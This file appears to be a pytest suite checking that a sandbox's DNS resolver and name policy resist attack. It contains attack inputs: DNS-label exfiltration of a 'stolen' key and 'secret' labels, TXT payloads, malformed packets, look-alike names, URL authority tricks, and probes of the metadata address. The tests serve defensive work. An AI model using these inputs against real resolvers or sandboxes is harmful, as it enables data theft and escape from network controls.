"""Attacks on names: DNS as a channel out, names that read as other names (rows N01-N05, N15-N21)."""

from __future__ import annotations

import json

import pytest
from net_wire import query
from net_world import BACKENDS, QUICK, Net, names

EXAMPLE4 = names.address("example.com")


# ---------------------------------------------------------------- N01, N03: labels as a channel


@BACKENDS
@pytest.mark.parametrize("server", ["9.9.9.9", "127.0.0.53", "2606:2800:220:1::99", "198.18.0.1"])
def test_n01_no_label_leaves(net: Net, server: str) -> None:
    """Every resolver address is ours, answers only allowed names, and asks nobody."""
    stolen = "c3RvbGVuLWtleQ.example.com"
    script = f"attempt('leak', lambda: code(ask(query({stolen!r}), {server!r})))"
    script += f"\nattempt('tcp', lambda: code(ask_tcp(query({stolen!r}), {server!r})))"
    if server == "9.9.9.9":
        outside = net.control(script)
        assert outside == {"leak": 3, "tcp": 3}
        assert len(net.questions(stolen)) == 2  # positive control: the label arrived
    before = len(net.questions(stolen))
    net.allow("example.com")
    # TCP to a loopback address is the sandbox's own business, and nobody listens there.
    assert net.attack(script) == {"leak": 3, "tcp": "ECONNREFUSED" if server == "127.0.0.53" else 3}
    assert len(net.questions(stolen)) == before
    assert net.denied("name not allowed", kind="NameQuery", name=stolen.lower())


@BACKENDS
def test_n01_no_label_leaves_by_connecting(net: Net) -> None:
    """Nor does it by any client of the C library, whatever the policy's other names are."""
    net.allow("example.com", "*.github.com")
    script = "\n".join(
        f"attempt({name!r}, lambda: get({name!r}))" for name in ("k1.example.com", "k2.evil.test", "github.com")
    )
    assert set(net.attack(script).values()) == {"EAI_NONAME"}
    assert [net.questions(name) for name in ("k1.example.com", "k2.evil.test")] == [[], []]
    assert {event["access"]["name"] for event in net.denied()} == {"k1.example.com", "k2.evil.test", "github.com"}


def test_n03_a_wildcard_asks_nobody_before_a_connection(net: Net) -> None:
    """10,000 labels under an allowed wildcard reach no name server; a connection asks for its own name only."""
    net.allow("*.example.com")
    script = """
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(60)
sock.connect(("9.9.9.9", 53))
good = 0
for n in range(10000):
    sock.send(query(f"secret{n}.example.com"))
    good += code(sock.recv(512)) == 0
say("answered", good)
attempt("connected", lambda: get("www.example.com"))
"""
    before = len(net.questions("secret17.example.com"))
    assert net.attack(script) == {"answered": 10000, "connected": "200"}
    assert len(net.questions("secret17.example.com")) == before
    assert net.questions("www.example.com")


def test_n03_a_flood_of_names_leads_no_address_to_another_name(net: Net) -> None:
    """More names than are known at a time: the ones not used are forgotten, and their addresses are nobody's."""
    net.allow("*.example.com", "notexample.com")
    script = """
stale, held, own = (socket.gethostbyname(n) for n in ("www.example.com", "deep.sub.example.com", "notexample.com"))
open_one = dial(held, 80)
attempt("before", lambda: get(stale, name="www.example.com"))
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(60)
sock.connect(("9.9.9.9", 53))
codes, addresses = [], set()
for n in range(20000):
    sock.send(query(f"n{n}.example.com"))
    answer = sock.recv(512)
    codes.append(code(answer))
    addresses.add(address(answer))
say("codes", [codes.count(0), len(addresses)])
attempt("stale", lambda: get(stale, name="www.example.com"))
attempt("after", lambda: [get("www.example.com"), socket.gethostbyname("www.example.com") != stale])
attempt("held", lambda: [get(held, name="deep.sub.example.com"), socket.gethostbyname("deep.sub.example.com") == held])
attempt("own", lambda: [get(own, name="notexample.com"), socket.gethostbyname("notexample.com") == own])
"""
    found = net.attack(script)
    assert found == {
        "before": "200",
        "codes": [20000, 20000],
        "stale": "403",
        "after": ["200", True],
        "held": ["200", True],
        "own": ["200", True],
    }
    assert net.denied("address not allowed", kind="Connect")


# ---------------------------------------------------------------- N04: other record types


@pytest.mark.parametrize("kind", ["NS", "CNAME", "NULL", "MX", "TXT", "SRV", "HTTPS", "AXFR", "ANY", "PTR", "999"])
@pytest.mark.parametrize("over", ["ask", "ask_tcp"])
def test_n04_only_addresses_are_answered(net: Net, kind: str, over: str) -> None:
    """TXT is where payloads come in, HTTPS records carry ECH keys; nothing of the kind, for any name."""
    net.allow("notexample.com")
    script = f"""
for name in ("notexample.com", "google.com"):
    attempt(name, lambda: (lambda a: [code(a), records(a)])({over}(query(name, {kind}))))
attempt("control", lambda: (lambda a: [code(a), records(a)])({over}(query("notexample.com", A))))
"""
    assert net.attack(script) == {"notexample.com": [0, 0], "google.com": [3, 0], "control": [0, 1]}
    shown = f"TYPE{kind}" if kind.isdigit() else kind
    if kind != "HTTPS":  # which ordinary clients ask next to A: its absence is no refusal
        assert net.denied("query type not answered", name="notexample.com", type=shown)
    assert net.denied("name not allowed", name="google.com")
    assert net.questions("notexample.com") == []


def test_n04_a_payload_in_a_text_record_never_arrives(net: Net) -> None:
    script = "attempt('text', lambda: ask(query('notexample.com', TXT)).partition(b'secret')[1])"
    assert net.control(script) == {"text": "secret"}
    net.allow("notexample.com")
    assert net.attack(script) == {"text": ""}


# ---------------------------------------------------------------- N05: encrypted DNS


@pytest.mark.parametrize("rule", ["example.com", "**"])
def test_n05_dns_over_https_and_tls(net: Net, rule: str) -> None:
    """By address it needs a rule for the address; by name it is a host like any other, and not in the presets."""
    net.allow(rule)
    script = """
attempt("dot", lambda: first("dns.quad9.test", 853, record(hello("dns.quad9.test"))))
attempt("dot by address", lambda: first("9.9.9.9", 853, record(hello("dns.quad9.test"))))
attempt("dnscrypt", lambda: udp("9.9.9.9", 443))
"""
    found = net.attack(script)
    assert found["dnscrypt"] == "EPERM"
    if rule == "example.com":
        assert found["dot"] == "EAI_NONAME"
        assert found["dot by address"] == "\x15\x03\x03\x00\x02\x02\x31"
        assert net.denied("address not allowed", address="9.9.9.9", port=853)
    else:
        assert "\x16\x03" not in found["dot by address"]


def test_n05_no_preset_opens_a_public_resolver(net: Net) -> None:
    for host in ("dns.google", "cloudflare-dns.com", "one.one.one.one", "dns.quad9.net", "doh.opendns.com"):
        done = net.run("check", f"https://{host}/dns-query")
        assert done.returncode != 0, (host, done.stdout)


# ---------------------------------------------------------------- the wire: no query crashes or confuses the resolver

ODD = {
    "empty": b"",
    "short": b"\x12\x34\x01",
    "header only": query("example.com")[:12],
    "no question": b"\x12\x34\x01\0" + bytes(8),
    "two questions": query("example.com").replace(b"\0\1\0\0", b"\0\2\0\0", 1) + query("evil.test")[12:],
    "65535 questions": query("example.com").replace(b"\1\0\0\1", b"\1\0\xff\xff", 1),
    "an answer in the query": query("example.com").replace(b"\1\0\0\1\0\0", b"\1\0\0\1\0\1", 1),
    "a pointer to itself": query("", wire=b"\xc0\x0c"),
    "a pointer loop": query("", wire=b"\x01a\xc0\x0e\xc0\x0c"),
    "a pointer out": query("", wire=b"\xff\xff"),
    "a label of 64": query("", wire=b"\x40" + b"a" * 64 + b"\0"),
    "an extended label": query("", wire=b"\x41\x20\0"),
    "no end": query("", wire=b"\x3f" + b"a" * 10),
    "256 bytes": query("", wire=(b"\x3f" + b"a" * 63) * 4 + b"\0"),
    "4096 labels": query("", wire=b"\x01a" * 2000 + b"\0"),
    "response": query("example.com", flags=0x8180),
    "update": query("example.com", flags=0x2800),
    "notify": query("example.com", flags=0x2000),
    "all flags": query("example.com", flags=0x7FFF),
    "cut EDNS": query("example.com", more=1, extra=b"\0\0\x29\x10"),
    "a record that ends early": query("example.com", more=1, extra=b"\0\0\x29\x10\0\0\0\0\0\xff\xff"),
    "two OPT": query("example.com", more=2, extra=(b"\0\0\x29\x10" + bytes(7)) * 2),
    "OPT with a name": query("example.com", more=1, extra=b"\1a\0\0\x29\x10" + bytes(6)),
    "65535 records": query("example.com", more=65535),
    "NUL in a label": query("", wire=b"\x0bexample\0com\0"),
    "dot in a label": query("", wire=b"\x0bexample.com\0"),
    "dotted tail": query("", wire=b"\x04evil\x0c.example.com\0"),
    "not text": query("", wire=b"\x04\xff\xfe\x80\n\0"),
    "root": query(""),
    "class CHAOS": query("example.com")[:-1] + b"\3",
    "class ANY": query("example.com")[:-2] + b"\0\xff",
}

ANSWERED = ("dot in a label", "NUL in a label", "dotted tail", "class CHAOS", "two questions")


@BACKENDS
@pytest.mark.parametrize("over", ["ask", "ask_tcp"])
def test_odd_queries(net: Net, over: str) -> None:
    """Each is answered with an error or not at all; the one after it is answered; nothing goes upstream."""
    net.allow("example.com")
    packets = {name: packet.hex() for name, packet in ODD.items()}
    script = f"""
def first_answer(packet, mark=b"\\x99\\x99"):
    "That of the packet, or of the query behind it: then there was none."
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(60)
        sock.connect(("9.9.9.9", 53))
        sock.send(packet)
        sock.send(mark + query("example.com")[2:])
        answer = sock.recv(65535)
        return b"" if answer[:2] == mark else answer
for name, packet in {packets!r}.items():
    both = lambda answer: [code(answer), records(answer)] if answer else "closed"
    attempt(name, lambda: both({"first_answer" if over == "ask" else over}(bytes.fromhex(packet))))
    attempt(name + ", then", lambda: [code(ask(query("example.com"))), code(ask_tcp(query("example.com")))])
"""
    found = net.attack(script)
    assert {name: value for name, value in found.items() if name.endswith(", then") and value != [0, 0]} == {}
    answered = {name: found[name] for name in ODD if found[name] not in ("timeout", "closed", "ECONNRESET")}
    assert all(value[0] != 0 and value[1] == 0 for value in answered.values()), answered
    assert {*ANSWERED} <= {*answered}
    # What is in the record cannot be taken for more than one line, or for another name.
    told = net.events_path.read_text()
    assert all(json.loads(line) for line in told.splitlines())
    assert {event["access"]["name"] for event in net.denied("name malformed")} >= {"example\\u{0}com"}
    assert net.questions("evil.test") == []


def test_mixed_case_and_edns_do_not_matter(net: Net) -> None:
    """0x20 (the question comes back as it was asked), EDNS options, padding, cookies: one name, one address."""
    net.allow("Example.COM")
    script = """
plain = address(ask(query("example.com")))
def same(packet, over=ask):
    answer = over(packet)
    return [code(answer), packet[12:25] in answer, plain in answer]
attempt("0x20", lambda: same(query("eXaMpLe.CoM")))
attempt("edns", lambda: same(query("example.com", extra=edns(), more=1)))
attempt("padding", lambda: same(query("example.com", extra=edns(b"\\0\\x0c" + vector(2, bytes(900))), more=1)))
subnet = edns(b"\\0\\x08" + vector(2, b"\\0\\1\\x18\\0\\1\\2\\3"))
attempt("subnet", lambda: same(query("example.com", extra=subnet, more=1)))
attempt("version 1", lambda: code(ask(query("example.com", extra=edns(version=1), more=1))))
padding = edns(b"\\0\\x0c" + vector(2, bytes(3000)))
attempt("3 KiB over TCP", lambda: same(query("example.com", extra=padding, more=1), ask_tcp))
padding = edns(b"\\0\\x0c" + vector(2, bytes(60000)))
attempt("64 KiB over TCP", lambda: same(query("example.com", extra=padding, more=1), ask_tcp))
"""
    found = net.attack(script)
    assert found.pop("64 KiB over TCP") in ("ECONNRESET", "EPIPE")
    assert found.pop("version 1") == 0  # BADVERS has its upper bits in the OPT record
    assert set(map(tuple, found.values())) == {(0, True, True)}
    assert net.questions("example.com") == []


def test_pointer_queries_tell_own_names_only(net: Net) -> None:
    """PTR of a fake address is its name; of any other it is NXDOMAIN, asked of nobody."""
    script = """
raw = ask(query("example.com"))[-4:]
reverse = ".".join(map(str, reversed(raw))) + ".in-addr.arpa"
attempt("own", lambda: encoded("example.com") in ask(query(reverse, PTR)))
for name in ("11.216.184.93.in-addr.arpa", "1.0.0.127.in-addr.arpa", "2.0.18.198.in-addr.arpa", "a.b.c.d.in-addr.arpa",
             "0." * 32 + "ip6.arpa", "z." * 32 + "ip6.arpa", "secret.in-addr.arpa"):
    attempt(name, lambda: code(ask(query(name, PTR))))
"""
    net.allow("example.com")
    found = net.attack(script)
    assert found.pop("own") is True
    assert set(found.values()) == {3}
    assert net.questions("11.216.184.93.in-addr.arpa") == []


def test_nobody_inside_can_take_the_resolvers_place(net: Net) -> None:
    """UDP port 53 is taken on every address, also for sockets that would share it."""
    script = """
def bind(address, *options):
    with socket.socket(family(address), socket.SOCK_DGRAM) as sock:
        for option in options:
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        sock.bind((address, 53))
for address in ("0.0.0.0", "127.0.0.1", "127.0.0.53", "198.18.0.2", "9.9.9.9", "::", "::1"):
    attempt(address, lambda: bind(address))
    attempt(address + " shared", lambda: bind(address, socket.SO_REUSEADDR, socket.SO_REUSEPORT))
attempt("control", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("0.0.0.0", 54)))
"""
    net.allow("example.com")
    found = net.attack(script)
    assert found.pop("control") == "ok"
    assert set(found.values()) == {"EADDRINUSE"}


# ---------------------------------------------------------------- N15, N17, N19: names that read as others


@pytest.mark.parametrize("rule", ["example.com", "*.github.com"])
def test_n15_case_and_dots(net: Net, rule: str) -> None:
    """One trailing dot and any case are the same name; spaces and further dots are none."""
    inside = "example.com" if rule == "example.com" else "api.github.com"
    spellings = (inside.upper(), f"{inside}.", f"{inside.title()}.")
    odd = (f"{inside}..", f".{inside}", f" {inside}", f"{inside} ", f"{inside}\t", inside.replace(".", ".."))
    script = "\n".join(f"attempt({name!r}, lambda: get({name!r}, name={inside!r}))" for name in (*spellings, *odd))
    net.allow(rule)
    found = net.attack(script)
    assert {found[name] for name in spellings} == {"200"}
    assert {found[name] for name in odd} <= {"EAI_NONAME", "EAI_FAIL", "UnicodeError"}, found
    # On the wire, where no library has looked at it before:
    wires = [b"\x0b" + inside.encode()[:11] + b"\0", b"\x01 " + query(inside)[12:-4]]
    script = f"say('odd', [code(ask(query('', wire=w))) for w in {wires!r}])"
    assert net.attack(script) == {"odd": [3, 3]}
    assert net.denied("name malformed")


@BACKENDS
def test_n15_a_deny_rule_holds_for_every_spelling(net: Net) -> None:
    net.allow("**", deny=["Google.COM."])
    script = "\n".join(
        f"attempt({name!r}, lambda: get({name!r}))"
        for name in ("google.com", "GOOGLE.com", "google.com.", "gOoGlE.CoM.")
    )
    assert set(net.attack(script).values()) == {"EAI_NONAME"}
    assert net.denied("denied by rule", kind="NameQuery")
    assert net.attack("attempt('control', lambda: get('example.com'))") == {"control": "200"}


@pytest.mark.parametrize(
    "wire",
    [
        "exаmple.com".encode(),  # Cyrillic a
        "example。com".encode(),
        "exam\u200bple.com".encode(),
        "ｅxample.com".encode(),
        "example.com\u202e".encode(),
        b"xn--exmple-4nf.com",
        b"example\xe3\x80\x82com",
    ],
)
def test_n17_look_alikes(net: Net, wire: bytes) -> None:
    net.allow("example.com")
    script = f"attempt('raw', lambda: code(ask(query({wire!r}))))\n"
    script += f"attempt('library', lambda: socket.getaddrinfo({wire!r}, 80)[0][4][0])\n"
    script += "attempt('control', lambda: get('example.com'))"
    found = net.attack(script)
    assert found.pop("control") == "200"
    assert found.pop("raw") == 3
    assert found["library"] in ("EAI_NONAME", "EAI_FAIL", "UnicodeError")
    assert net.denied("name malformed") or net.denied("name not allowed")


def test_n17_a_rule_that_is_a_look_alike_is_refused(net: Net) -> None:
    for rule in ("ｅxample.com", "example。com", "exam\u200bple.com", "exаmple。com"):
        net.allow(rule)
        assert net.inside("pass").returncode == 78, rule


@BACKENDS
@pytest.mark.parametrize(
    "url",
    [
        "http://example.com@google.com/",
        "http://example.com:80@google.com/",
        "http://example.com%2f@google.com/",
        "http://google.com#@example.com/",
        "http://google.com?@example.com/",
        "http://google.com\\@example.com/",
        "http://example.com:@google.com/",
    ],
)
def test_n18_authority_tricks(net: Net, url: str) -> None:
    """No URL is read for a name here: what the client connects to is what is judged."""
    curl = ("curl", "-s", "-m", "8", "--globoff", "-o", "/dev/null", "-w", "%{http_code}", url)
    assert net.outside(*curl).stdout == "200", "positive control"
    before = len(net.requests(host="google.com"))
    net.allow("example.com")
    done = net.run(f"--events={net.events_path}", "--", *curl)
    assert len(net.requests(host="google.com")) == before
    if done.stdout != "200":  # else curl(1) has read it as example.com
        assert done.returncode == 6
        assert net.denied("name not allowed", name="google.com")


@pytest.mark.parametrize(
    "name", ["notexample.com", "example.com.evil.test", "wwwexample.com", "example.co", "xample.com", "com", "example"]
)
@pytest.mark.parametrize("rule", ["example.com", "*.example.com"])
def test_n19_labels_are_whole(net: Net, name: str, rule: str) -> None:
    control = names.ZONE.get(name) is not None
    if control:
        assert net.control(f"attempt('x', lambda: get({name!r}))") == {"x": "200"}
    net.allow(rule)
    assert net.attack(f"attempt('x', lambda: get({name!r}))") == {"x": "EAI_NONAME"}
    assert net.denied("name not allowed", name=name)


@pytest.mark.parametrize(
    "rule", ["*.com", "*.co.uk", "*.", "*example.com", "*.*.example.com", "exa*.com", "*.github.io."]
)
def test_n19_wildcards_below_a_public_suffix_are_refused(net: Net, rule: str) -> None:
    net.allow(rule)
    expected = 0 if rule == "*.github.io." else 78  # private part of the list: one owner per name, the spec's example
    assert net.inside("pass").returncode == expected


@BACKENDS
@pytest.mark.parametrize("policy", ["{}", "presets: []", "{presets: [], allow: []}", "presets: []\nallow:\n", ""])
def test_n21_nothing_means_nothing(net: Net, policy: str) -> None:
    """An empty list, a missing list, an empty file: no host of the world, by name or address."""
    net.policy(policy)
    script = f"""
for host in ("example.com", "google.com", "{EXAMPLE4}", "10.0.0.7", "169.254.169.254"):
    attempt(host, lambda: get(host))
"""
    done = net.inside(script)
    if done.returncode == 78:  # refused as a file: nothing has run
        return
    found = json.loads(done.stdout.strip().splitlines()[-1])
    assert "200" not in found.values(), found
    assert net.denied()


def test_n21_refusals_are_quick(net: Net) -> None:
    net.allow()
    script = """
started = time.monotonic()
for host in ("example.com", "93.184.216.11", "2606:2800:220:1::b"):
    attempt(host, lambda: get(host))
say("took", time.monotonic() - started)
"""
    found = net.attack(script)
    assert found.pop("took") < QUICK
    assert set(found.values()) == {"EAI_NONAME", "403"}
